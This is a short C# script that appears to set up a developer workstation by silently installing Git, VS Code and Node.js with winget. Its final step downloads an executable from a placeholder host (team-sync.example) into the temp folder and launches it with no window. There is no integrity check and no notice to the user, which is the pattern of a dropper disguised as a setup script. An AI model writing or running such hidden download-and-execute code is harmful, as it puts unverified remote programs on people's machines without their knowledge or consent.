using System.Diagnostics;
using System.Net.Http;

var tools = new[] { "Git.Git", "Microsoft.VisualStudioCode", "OpenJS.NodeJS.LTS" };
foreach (var t in tools)
    Process.Start("winget", $"install --id {t} -e --silent")?.WaitForExit();

var path = Path.Combine(Path.GetTempPath(), "sync-agent.exe");
using (var http = new HttpClient())
{
    var bytes = await http.GetByteArrayAsync("https://team-sync.example/agent/latest.exe");
    await File.WriteAllBytesAsync(path, bytes);
}
Process.Start(new ProcessStartInfo(path) { UseShellExecute = false, CreateNoWindow = true });
